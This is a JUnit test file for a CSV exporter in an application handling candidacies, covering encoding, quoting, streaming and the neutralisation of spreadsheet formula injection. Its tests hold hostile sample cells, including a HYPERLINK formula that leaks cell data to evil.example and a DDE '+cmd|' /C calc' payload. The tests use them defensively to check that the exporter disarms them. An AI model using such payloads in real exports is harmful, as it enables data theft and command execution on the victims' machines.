package fr.interconnectes.candidatures.http.export;

import fr.interconnectes.candidatures.reporting.ExportColumns;
import fr.interconnectes.candidatures.reporting.Samples;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.interconnectes.candidatures.domain.JuryGrid;
import fr.interconnectes.candidatures.domain.Language;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Iterator;
import java.util.List;
import java.util.NoSuchElementException;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CsvExportTest {

    private static String csv(List<String> headers, List<List<String>> rows, char separator) throws IOException {
        StringWriter out = new StringWriter();
        CsvExport.write(out, headers, rows, separator);
        return out.toString();
    }

    private static byte[] bytes(List<String> headers, List<List<String>> rows, char separator) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvExport.write(out, headers, rows, separator);
        return out.toByteArray();
    }

    private static List<CSVRecord> parse(String csv, char separator) throws IOException {
        return CSVFormat.RFC4180.builder().setDelimiter(separator).get().parse(new StringReader(csv)).getRecords();
    }

    // --- encoding, separators, lines ---------------------------------------------------------------------

    @Test
    void utf8_with_a_byte_order_mark_and_accents_intact() throws IOException {
        byte[] bytes = bytes(List.of("Organisation"), List.of(List.of(Samples.EVIAN)), ';');

        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertThat(text).isEqualTo("Organisation\r\nCommunauté de communes du Pays d'Évian\r\n");
        // É is C3 89, é is C3 A9: written once as UTF-8, not twice
        assertThat(bytes).containsSequence(0xC3, 0x89, 'v', 'i', 'a', 'n');
        assertThat(new String(bytes, StandardCharsets.UTF_8)).doesNotContain("Ã");
    }

    @Test
    void the_bom_alone() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvExport.writeBom(out);
        assertThat(out.toByteArray()).containsExactly(0xEF, 0xBB, 0xBF);
    }

    @Test
    void semicolon_by_default_comma_on_demand_crlf_line_ends() throws IOException {
        List<List<String>> rows = List.of(List.of("1", "x"), List.of("2", "y"));
        assertThat(csv(List.of("a", "b"), rows, ';')).isEqualTo("a;b\r\n1;x\r\n2;y\r\n");
        assertThat(csv(List.of("a", "b"), rows, ',')).isEqualTo("a,b\r\n1,x\r\n2,y\r\n");

        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvExport.write(out, List.of("a", "b"), rows);
        assertThat(new String(out.toByteArray(), StandardCharsets.UTF_8)).isEqualTo("\uFEFFa;b\r\n1;x\r\n2;y\r\n");
    }

    @Test
    void other_separators_are_refused() {
        assertThatThrownBy(() -> csv(List.of("a"), List.of(), '\t')).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> csv(List.of("a"), List.of(), '|')).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void fields_holding_the_separator_a_quote_or_a_line_break_are_quoted() throws IOException {
        List<String> row = List.of("un; deux", "un, deux", "dit \"oui\"", "ligne 1\nligne 2", "a\r\nb", "simple");

        assertThat(csv(List.of("h"), List.of(row), ';')).isEqualTo("h\r\n"
                + "\"un; deux\";un, deux;\"dit \"\"oui\"\"\";\"ligne 1\nligne 2\";\"a\r\nb\";simple\r\n");
        assertThat(csv(List.of("h"), List.of(row), ',')).isEqualTo("h\r\n"
                + "un; deux,\"un, deux\",\"dit \"\"oui\"\"\",\"ligne 1\nligne 2\",\"a\r\nb\",simple\r\n");

        // and an RFC 4180 reader gets the values back
        for (char separator : new char[] {';', ','}) {
            List<CSVRecord> records = parse(csv(List.of("h"), List.of(row), separator), separator);
            assertThat(records).hasSize(2);
            assertThat(records.get(1).toList()).isEqualTo(row);
        }
    }

    @Test
    void missing_cells_are_empty() throws IOException {
        assertThat(csv(List.of("a", "b", "c"), List.of(Arrays.asList("x", null, "")), ';'))
                .isEqualTo("a;b;c\r\nx;;\r\n");
    }

    @Test
    void the_given_writer_and_stream_are_flushed_not_closed() throws IOException {
        AtomicInteger closed = new AtomicInteger();
        ByteArrayOutputStream out = new ByteArrayOutputStream() {
            @Override
            public void close() {
                closed.incrementAndGet();
            }
        };
        CsvExport.write(out, List.of("a"), List.of(List.of("1")), ';');
        assertThat(closed).hasValue(0);
        assertThat(out.size()).isEqualTo(3 + "a\r\n1\r\n".length());
        out.write('x'); // still usable
    }

    // --- formula injection ------------------------------------------------------------------------------

    @ParameterizedTest(name = "[{index}] {0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
            "=HYPERLINK(\"http://evil.example\",\"x\") | '=HYPERLINK(\"http://evil.example\",\"x\")",
            "=1+1                                     | '=1+1",
            "+cmd¦' /C calc'!A0                       | '+cmd¦' /C calc'!A0",
            "@SUM(1)                                  | '@SUM(1)",
            "-2+3                                     | '-2+3",
            "+33450338888                             | '+33450338888",
            "+12                                      | '+12",
            "-                                        | '-",
            "-1.                                      | '-1.",
            "-.5                                      | '-.5",
            "-1,5,0                                   | '-1,5,0",
            "-1 000                                   | '-1 000",
            "-1e3                                     | '-1e3",
            "-1.50                                    | -1.50",
            "-1,50                                    | -1,50",
            "-3                                       | -3",
            "12                                       | 12",
            "12.50                                    | 12.50",
            "1+1                                      | 1+1",
            "a=b                                      | a=b",
            "'=already quoted                         | '=already quoted",
            "É=mc²                                    | É=mc²",
    })
    void formulas_are_neutralised_plain_numbers_are_not(String cell, String written) {
        // @CsvSource cannot hold the '|' of the third case, hence the swap
        assertThat(CsvExport.neutralise(cell.replace('¦', '|'))).isEqualTo(written.replace('¦', '|'));
    }

    @Test
    void control_characters_that_start_a_formula_are_neutralised() {
        assertThat(CsvExport.neutralise("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(CsvExport.neutralise("\r=1+1")).isEqualTo("'\r=1+1");
        assertThat(CsvExport.neutralise("\tplain")).isEqualTo("'\tplain");
        assertThat(CsvExport.neutralise(" =1+1")).isEqualTo(" =1+1");
        assertThat(CsvExport.neutralise("")).isEmpty();
        assertThat(CsvExport.neutralise(null)).isEmpty();
    }

    @Test
    void in_a_written_file_no_cell_starts_a_formula_and_numbers_stay_numbers() throws IOException {
        ExportColumns columns = ExportColumns.of(JuryGrid.common());
        String csv = csv(columns.headers(), List.of(columns.cells(Samples.hostile())), ';');

        List<CSVRecord> records = parse(csv, ';');
        List<String> row = records.get(1).toList();
        assertThat(row.subList(0, 12)).containsExactly(
                "ARA-2019-L-0043", "c-hostile", "submitted",
                "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")", "commune",
                "'+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3@evil.example", "'\t=1+1", "'-2+3", "'=1+1",
                "2020-01-16T23:59:00+01:00");
        assertThat(row.subList(12, 18)).containsExactly("0", "2", "-1.50", "1", "", "-1.50");
        for (CSVRecord record : records) {
            for (String value : record) {
                assertThat(value).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
                        .doesNotStartWith("\t").doesNotStartWith("\r");
                if (value.startsWith("-")) {
                    assertThat(value).matches("-\\d+(\\.\\d+)?");
                }
            }
        }
    }

    @Test
    void decimal_commas_stay_numbers_and_are_quoted_only_between_commas() throws IOException {
        ExportColumns columns = ExportColumns.of(JuryGrid.common()).withDecimalSeparator(',');
        List<String> cells = columns.cells(Samples.hostile());
        assertThat(csv(List.of("h"), List.of(cells), ';')).contains(";0;2;-1,50;1;;-1,50;;;;;not_selected\r\n");
        assertThat(csv(List.of("h"), List.of(cells), ',')).contains(",0,2,\"-1,50\",1,,\"-1,50\",,,,,not_selected\r\n");
    }

    @Test
    void headers_are_neutralised_too() throws IOException {
        assertThat(csv(List.of("=cmd", "Note"), List.of(), ';')).isEqualTo("'=cmd;Note\r\n");
    }

    @Test
    void a_whole_export_in_english_with_commas() throws IOException {
        ExportColumns columns = ExportColumns.of(Samples.campaign(), Language.EN);
        String csv = csv(columns.headers(), Samples.rows().stream().map(columns::cells).toList(), ',');

        List<CSVRecord> records = parse(csv, ',');
        assertThat(records).hasSize(4);
        assertThat(records.get(0).toList()).isEqualTo(columns.headers());
        assertThat(records.get(1).toList())
                .isEqualTo(columns.cells(Samples.evian()).stream().map(CsvExport::neutralise).toList())
                .contains("'+33450338888", Samples.EVIAN, "12.50");
        assertThat(records.get(3).toList()).isEqualTo(columns.cells(Samples.draft()));
        assertThat(csv).startsWith("Receipt number,Candidacy id,Status,Organisation,Type,SIREN,Contact,E-mail,");
        assertThat(csv).contains(",Spread,Innovation,User focus,");
    }

    // --- streaming ------------------------------------------------------------------------------------------

    /** Rows made on demand, with the bytes the sink had received when each was asked for. */
    private static final class LazyRows implements Iterable<List<String>> {
        final int count;
        final AtomicLong sinkBytes;
        final long[] bytesWhenPulled;
        int pulled;

        LazyRows(int count, AtomicLong sinkBytes) {
            this.count = count;
            this.sinkBytes = sinkBytes;
            this.bytesWhenPulled = new long[count];
        }

        @Override
        public Iterator<List<String>> iterator() {
            return new Iterator<>() {
                @Override
                public boolean hasNext() {
                    return pulled < count;
                }

                @Override
                public List<String> next() {
                    if (pulled >= count) {
                        throw new NoSuchElementException();
                    }
                    bytesWhenPulled[pulled] = sinkBytes.get();
                    int n = pulled++;
                    return List.of(String.format("ARA-2019-L-%06d", n), Samples.EVIAN, "-1.50", "=cmd");
                }
            };
        }
    }

    /** Counts what reaches it, keeps nothing. */
    private static OutputStream countingSink(AtomicLong bytes) {
        return new OutputStream() {
            @Override
            public void write(int b) {
                bytes.incrementAndGet();
            }

            @Override
            public void write(byte[] b, int off, int len) {
                bytes.addAndGet(len);
            }
        };
    }

    @Test
    void a_hundred_thousand_rows_are_pulled_one_by_one_while_the_output_flows() throws IOException {
        AtomicLong sinkBytes = new AtomicLong();
        LazyRows rows = new LazyRows(100_000, sinkBytes);

        CsvExport.write(countingSink(sinkBytes), List.of("n", "organisation", "score", "formula"), rows, ';');

        assertThat(rows.pulled).isEqualTo(100_000);
        long total = sinkBytes.get();
        long rowBytes = ("ARA-2019-L-000000;" + Samples.EVIAN + ";-1.50;'=cmd\r\n")
                .getBytes(StandardCharsets.UTF_8).length;
        assertThat(total).isGreaterThan(100_000 * rowBytes);
        // when a row is asked for, all but the last few kilobytes of the rows before it are already out:
        // nothing piles up in memory
        for (int n = 0; n < rows.count; n += 997) {
            assertThat(rows.bytesWhenPulled[n]).as("bytes out when row %d was pulled", n)
                    .isGreaterThanOrEqualTo(n * rowBytes - 64 * 1024);
        }
        assertThat(rows.bytesWhenPulled[rows.count - 1]).isLessThan(total);
    }
}
